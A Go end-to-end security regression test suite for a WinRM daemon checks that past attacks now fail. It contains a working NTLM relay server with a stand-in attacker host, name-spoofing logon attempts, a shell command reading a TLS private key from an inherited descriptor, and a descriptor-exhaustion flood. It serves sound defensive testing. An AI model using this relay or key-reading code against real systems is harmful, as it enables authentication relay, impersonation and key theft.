package e2e

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// Regression rows of issue 14 (the attack review): each demonstrates an
// attack that worked on the daemon before its fix. They are counted in the
// summary block with the attack suite's rows (attack_rows / attack_refused /
// attack_executed).

// secRow runs one regression row as a subtest and counts it.
func secRow(t *testing.T, name string, f func(t *testing.T)) {
	t.Helper()
	ok := t.Run(name, f)
	recordStat("attack_rows", 1)
	if ok {
		recordStat("attack_refused", 1)
	}
}

// executed counts an attack that got something to run.
func executed(t *testing.T, format string, a ...any) {
	t.Helper()
	recordStat("attack_executed", 1)
	t.Errorf("EXECUTED: "+format, a...)
}

// pyResult is what test/clients/pywinrm_resolve.py reports.
type pyResult struct {
	OK     bool   `json:"ok"`
	Stdout string `json:"stdout"`
	Stderr string `json:"stderr"`
	Exit   int    `json:"exit"`
	Error  string `json:"error"`
}

// pywinrmAs runs one command with the real pywinrm against url, with the
// given names resolved to addresses by the script itself (see the script).
func pywinrmAs(t *testing.T, url, user, password, transport, command string, resolve map[string]string) pyResult {
	t.Helper()
	wd := need(t)
	in, _ := json.Marshal(map[string]any{"url": url, "user": user, "password": password, "transport": transport,
		"command": command, "resolve": resolve})
	ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, wd.python, filepath.Join(wd.root, "test", "clients", "pywinrm_resolve.py"))
	cmd.Stdin = bytes.NewReader(in)
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	cmd.Env = append(os.Environ(), "PYTHONDONTWRITEBYTECODE=1", "NO_PROXY=*", "no_proxy=*")
	err := cmd.Run()
	var r pyResult
	if jerr := json.Unmarshal(out.Bytes(), &r); jerr != nil {
		t.Fatalf("pywinrm: no result (%v, %v)\nstdout: %s\nstderr: %s", err, jerr, clip(out.Bytes(), 2000), clip(errb.Bytes(), 4000))
	}
	recordStat("client_runs", 1)
	return r
}

// auditWith returns the audit events of kind event whose raw JSON contains
// every one of subs.
func auditWith(d *Daemon, event string, subs ...string) []AuditEvent {
	var out []AuditEvent
	for _, e := range d.AuditEvents() {
		if e.Event != event {
			continue
		}
		all := true
		for _, s := range subs {
			all = all && strings.Contains(e.Raw, s)
		}
		if all {
			out = append(out, e)
		}
	}
	return out
}

// ---- 14.1: NTLM relay from HTTP to the HTTPS listener ----------------------

// ntlmRelay is an attacker's HTTP endpoint: it answers a victim's WinRM
// client and relays the client's NTLM legs, on one TLS connection, to the
// daemon's HTTPS listener. When the daemon accepts the relayed AUTHENTICATE,
// the attacker sends its own Create on that connection.
type ntlmRelay struct {
	ln      net.Listener
	target  string
	results chan *reply // the daemon's answer to the relayed AUTHENTICATE leg, or to the attacker's Create
}

func startRelay(t *testing.T, target string) *ntlmRelay {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	r := &ntlmRelay{ln: ln, target: target, results: make(chan *reply, 16)}
	t.Cleanup(func() { ln.Close() })
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			go r.serve(c)
		}
	}()
	return r
}

func (r *ntlmRelay) serve(c net.Conn) {
	defer c.Close()
	back, err := dialRawFrom("", r.target, true)
	if err != nil {
		return
	}
	defer back.Close()
	br := bufio.NewReader(c)
	for {
		c.SetReadDeadline(time.Now().Add(30 * time.Second))
		req, err := http.ReadRequest(br)
		if err != nil {
			return
		}
		io.Copy(io.Discard, io.LimitReader(req.Body, 1<<20))
		authz := req.Header.Get("Authorization")
		hdr := map[string]string{}
		if authz != "" {
			hdr["Authorization"] = authz
		}
		// The victim's bodies are sealed for the attacker's endpoint; only
		// the Authorization legs are worth relaying.
		resp, err := back.request("POST", "/wsman", hdr, nil, 15*time.Second)
		if err != nil || resp.Closed {
			if authz != "" {
				r.results <- &reply{Closed: true}
			}
			return
		}
		if authz != "" && resp.Status == 200 {
			// The relayed logon was accepted: the attacker now owns an
			// authenticated HTTPS connection as the victim.
			cr, err := back.request("POST", "/wsman", nil, []byte(createXML()), 15*time.Second)
			if err != nil {
				cr = &reply{Closed: true}
			}
			r.results <- cr
			fmt.Fprint(c, "HTTP/1.1 500 Internal Server Error\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
			return
		}
		if authz != "" && resp.Status != 401 {
			r.results <- resp
			return
		}
		if _, ok := negotiateToken(resp); !ok && authz != "" {
			// A 401 without a token to a handshake leg: the daemon refused it.
			r.results <- resp
		}
		var b strings.Builder
		fmt.Fprintf(&b, "HTTP/1.1 %d Relayed\r\n", resp.Status)
		for _, v := range resp.Header.Values("WWW-Authenticate") {
			fmt.Fprintf(&b, "WWW-Authenticate: %s\r\n", v)
		}
		b.WriteString("Content-Length: 0\r\n\r\n")
		if _, err := io.WriteString(c, b.String()); err != nil {
			return
		}
		if resp.Header.Get("Connection") == "close" {
			return
		}
	}
}

func TestSecurityNTLMRelay(t *testing.T) {
	need(t)
	d := startDaemon(t, nil) // the default cbt_hardening_level (relaxed)
	host, _ := os.Hostname()

	secRow(t, "relay_http_client_to_https_listener", func(t *testing.T) {
		relay := startRelay(t, d.HTTPS)
		before := d.executions()
		_, port, _ := net.SplitHostPort(relay.ln.Addr().String())
		res := pywinrmAs(t, "http://relay.attacker.example:"+port+"/wsman", w.admin.Name, w.admin.Password, "ntlm", "id -un",
			map[string]string{"relay.attacker.example": "127.0.0.1"})
		if res.OK {
			t.Errorf("the victim's client succeeded through the relay: %+v", res)
		}
		var got *reply
		select {
		case got = <-relay.results:
		case <-time.After(10 * time.Second):
			t.Fatalf("the relay never completed a handshake leg (client: %s)", res.Error)
		}
		if got.Status == 200 || classify(got) == "fault" {
			executed(t, "the relayed logon was accepted; the attacker's Create answered %s", got)
		}
		after := d.executions()
		if after.shellCreates > before.shellCreates {
			executed(t, "shell_create %d→%d", before.shellCreates, after.shellCreates)
		}
		if len(auditWith(d, "logon_failure", w.admin.Name, "service binding", "relay.attacker.example")) == 0 {
			t.Errorf("no logon_failure naming %s and the foreign service name:\n%s", w.admin.Name, tail(d.Audit, 10))
		}
	})

	// The same client reaching this host directly still logs on, and the
	// audit says what the logon was bound to.
	t.Run("direct_https_channel_binding", func(t *testing.T) {
		res := pywinrmAs(t, "https://"+d.HTTPS+"/wsman", w.admin.Name, w.admin.Password, "ntlm", "id -un", nil)
		if !res.OK || strings.TrimSpace(res.Stdout) != w.admin.Name {
			t.Fatalf("pywinrm over HTTPS: %+v", res)
		}
		if len(auditWith(d, "logon_success", w.admin.Name, `"channel_binding":"match"`, `"spn":"`)) == 0 {
			t.Errorf("logon_success without channel_binding=match and the spn:\n%s", tail(d.Audit, 10))
		}
	})
	t.Run("direct_http_by_host_name", func(t *testing.T) {
		_, port, _ := net.SplitHostPort(d.HTTP)
		res := pywinrmAs(t, "http://"+host+":"+port+"/wsman", w.admin.Name, w.admin.Password, "ntlm", "id -un",
			map[string]string{host: "127.0.0.1"})
		if !res.OK || strings.TrimSpace(res.Stdout) != w.admin.Name {
			t.Fatalf("pywinrm over HTTP to %s: %+v", host, res)
		}
		if len(auditWith(d, "logon_success", w.admin.Name, `"channel_binding":"service-name"`, "/"+host)) == 0 {
			t.Errorf("logon_success without channel_binding=service-name and spn */%s:\n%s", host, tail(d.Audit, 10))
		}
	})
}

// ---- 14.2 and 15.4: which account a name becomes ---------------------------

func TestSecurityQualifiedNames(t *testing.T) {
	need(t)
	// An NSS entry with a qualified name, as winbind or sssd returns for a
	// domain account, in an allowed group; its bare twin is the local
	// w.plain (in no allowed group) whose password the attacker knows.
	dom := "wrmde2edom" + randHex(2)
	qualified := dom + `\` + w.plain.Name
	if out, err := exec.Command("useradd", "--badname", "-M", "-N", "-d", "/", "-g", adminGroup, "-s", "/bin/sh",
		"-c", ownerTag(), qualified).CombinedOutput(); err != nil {
		t.Fatalf("useradd %s: %v: %s", qualified, err, out)
	}
	t.Cleanup(func() {
		if out, err := exec.Command("userdel", qualified).CombinedOutput(); err != nil {
			t.Errorf("userdel %s: %v: %s", qualified, err, out)
		}
	})
	d := startDaemon(t, nil)
	_, httpPort, _ := net.SplitHostPort(d.HTTP)
	httpURL := "http://" + d.HTTP + "/wsman"
	httpsURL := "https://" + d.HTTPS + "/wsman"
	_ = httpPort

	for _, tr := range []struct{ name, url, transport string }{
		{"ntlm", httpURL, "ntlm"},
		{"basic", httpsURL, "basic"},
	} {
		secRow(t, "qualified_name_local_password_"+tr.name, func(t *testing.T) {
			before := d.executions()
			res := pywinrmAs(t, tr.url, qualified, w.plain.Password, tr.transport, "id -un", nil)
			if res.OK {
				executed(t, "%s with the local password of %s logged on as %q", qualified, w.plain.Name, strings.TrimSpace(res.Stdout))
			}
			if after := d.executions(); after.shellCreates > before.shellCreates {
				executed(t, "shell_create %d→%d", before.shellCreates, after.shellCreates)
			}
			if n := len(auditWith(d, "logon_success", strings.ReplaceAll(qualified, `\`, `\\`))); n > 0 {
				executed(t, "%d logon_success as %s", n, qualified)
			}
			t.Logf("client: %+v", res)
		})
		secRow(t, "foreign_upn_local_password_"+tr.name, func(t *testing.T) {
			res := pywinrmAs(t, tr.url, w.admin.Name+"@corp.example", w.admin.Password, tr.transport, "id -un", nil)
			if res.OK {
				executed(t, "%s@corp.example (verified locally) logged on as %q", w.admin.Name, strings.TrimSpace(res.Stdout))
			}
		})
	}

	// The local forms every mechanism accepts (issue 15.4).
	host, _ := os.Hostname()
	short, _, _ := strings.Cut(host, ".")
	for _, name := range []string{w.admin.Name + "@" + host, `.\` + w.admin.Name, strings.ToUpper(short) + `\` + w.admin.Name} {
		for _, tr := range []struct{ name, url, transport string }{
			{"ntlm", httpURL, "ntlm"},
			{"basic", httpsURL, "basic"},
		} {
			name, tr := name, tr
			t.Run("local_form_"+tr.name+"_"+strings.ReplaceAll(name, `\`, "_"), func(t *testing.T) {
				res := pywinrmAs(t, tr.url, name, w.admin.Password, tr.transport, "id -un", nil)
				if !res.OK || strings.TrimSpace(res.Stdout) != w.admin.Name {
					t.Fatalf("%s as %q: %+v", tr.name, name, res)
				}
			})
		}
	}
}

// ---- 14.12: the audit trail names who was tried, and never a secret ---------

func TestSecurityAuditFields(t *testing.T) {
	need(t)
	d := startDaemon(t, nil)
	secRow(t, "audit_logon_failure_names_user", func(t *testing.T) {
		wrong := "Wrong-" + randHex(4)
		if r, err := postBasicFrom("", d.HTTPS, true, w.guess.Name, wrong, identifyXML); err != nil || r.Status != 401 {
			t.Fatalf("Basic with a wrong password: %v %v", r, err)
		}
		nc, r, err := dialNTLM(d.HTTP, false, w.guess.Name, wrong, ntlmOpts{})
		if err == nil {
			nc.Close()
		}
		if r == nil || r.Status == 200 {
			t.Fatalf("NTLM with a wrong password: %v %v", r, err)
		}
		for _, scheme := range []string{"Basic", "Negotiate"} {
			found := false
			for _, e := range d.AuditEvents() {
				if e.Event == "logon_failure" && e.Scheme == scheme && strings.EqualFold(strings.TrimPrefix(e.User, `\`), w.guess.Name) {
					found = true
				}
			}
			if !found {
				t.Errorf("no %s logon_failure with user %q:\n%s", scheme, w.guess.Name, tail(d.Audit, 10))
			}
		}
		if b, _ := os.ReadFile(d.Audit); bytes.Contains(b, []byte(wrong)) {
			t.Errorf("the audit log contains the tried password")
		}
	})
	secRow(t, "audit_command_start_hides_assignment", func(t *testing.T) {
		secret := "s3cret" + randHex(4)
		sh, err := createShell(basicClient{d.HTTPS, true, w.admin.Name, w.admin.Password})
		if err != nil {
			t.Fatal(err)
		}
		defer sh.delete()
		res, err := sh.run("WRMD_TOKEN=" + secret + " printenv WRMD_TOKEN")
		if err != nil || strings.TrimSpace(string(res.Stdout)) != secret {
			t.Fatalf("command: %v %v", res, err)
		}
		if b, _ := os.ReadFile(d.Audit); bytes.Contains(b, []byte(secret)) {
			t.Errorf("the audit log contains the assignment's value")
		}
		if len(auditWith(d, "command_start", `"program":"WRMD_TOKEN=… printenv"`)) == 0 {
			t.Errorf("command_start does not record the program as WRMD_TOKEN=… printenv:\n%s", tail(d.Audit, 5))
		}
	})
}

// ---- 14.8: descriptors the daemon inherited never reach a user command -----

func TestSecurityInheritedDescriptor(t *testing.T) {
	wd := need(t)
	secRow(t, "inherited_fd_9_private_key", func(t *testing.T) {
		// The TLS private key, open on descriptor 9 as `exec 9<key.pem` in a
		// wrapper script would leave it.
		key, err := os.Open(wd.key)
		if err != nil {
			t.Fatal(err)
		}
		defer key.Close()
		launchExtraMu.Lock()
		launchExtra = []*os.File{nil, nil, nil, nil, nil, nil, key}
		launchExtraMu.Unlock()
		d := startDaemon(t, nil)
		if _, err := os.Readlink(fmt.Sprintf("/proc/%d/fd/9", d.PID)); err != nil {
			t.Fatalf("precondition: the daemon has no descriptor 9: %v", err)
		}
		sh, err := createShell(basicClient{d.HTTPS, true, w.admin.Name, w.admin.Password})
		if err != nil {
			t.Fatal(err)
		}
		defer sh.delete()
		// test -e stats: listing the directory would itself open one.
		res, err := sh.run("for n in $(seq 0 64); do [ -e /proc/$$/fd/$n ] && printf '%s ' $n; done; (head -c 64 <&9) 2>/dev/null; exit 0")
		if err != nil {
			t.Fatal(err)
		}
		out := string(res.Stdout)
		if strings.Contains(out, "PRIVATE KEY") {
			executed(t, "a remote user read the TLS private key through descriptor 9: %q", out)
		}
		if got := strings.TrimSpace(out); got != "0 1 2" {
			t.Errorf("the command has descriptors %q, want exactly 0 1 2", got)
		}
	})
}

// ---- 14.5: the metrics listener cannot exhaust the daemon's descriptors -----

func TestSecurityMetricsDescriptors(t *testing.T) {
	need(t)
	d := startDaemon(t, nil)
	secRow(t, "metrics_connection_flood_lowered_nofile", func(t *testing.T) {
		// A daemon with a small descriptor budget, as a unit with
		// LimitNOFILE= or a crowded host would give it.
		const limit = 256
		lim := unix.Rlimit{Cur: limit, Max: limit}
		if err := unix.Prlimit(d.PID, unix.RLIMIT_NOFILE, &lim, nil); err != nil {
			t.Fatalf("prlimit: %v", err)
		}
		// Any local user can open connections to the metrics listener.
		var conns []net.Conn
		defer func() {
			for _, c := range conns {
				c.Close()
			}
		}()
		for i := 0; i < 400; i++ {
			c, err := net.DialTimeout("tcp", d.Metrics, 2*time.Second)
			if err != nil {
				break // the kernel's backlog is full: that is no harm to the daemon
			}
			conns = append(conns, c)
		}
		time.Sleep(200 * time.Millisecond) // let the daemon accept what it will
		ents, _ := os.ReadDir(fmt.Sprintf("/proc/%d/fd", d.PID))
		t.Logf("%d connections open to metrics; the daemon holds %d descriptors (limit %d)", len(conns), len(ents), limit)
		if len(ents) >= limit-16 {
			t.Errorf("the daemon holds %d of its %d descriptors", len(ents), limit)
		}
		// A real client still logs on and runs a command meanwhile.
		res := pywinrmAs(t, "http://"+d.HTTP+"/wsman", w.admin.Name, w.admin.Password, "ntlm", "id -un", nil)
		if !res.OK || strings.TrimSpace(res.Stdout) != w.admin.Name {
			t.Errorf("pywinrm during the metrics flood: %+v", res)
		}
	})
	// Metrics still answer once the flood is gone.
	waitFor(t, 20*time.Second, "metrics to answer again", func() bool {
		_, err := d.MetricsSnapshot()
		return err == nil
	})
}
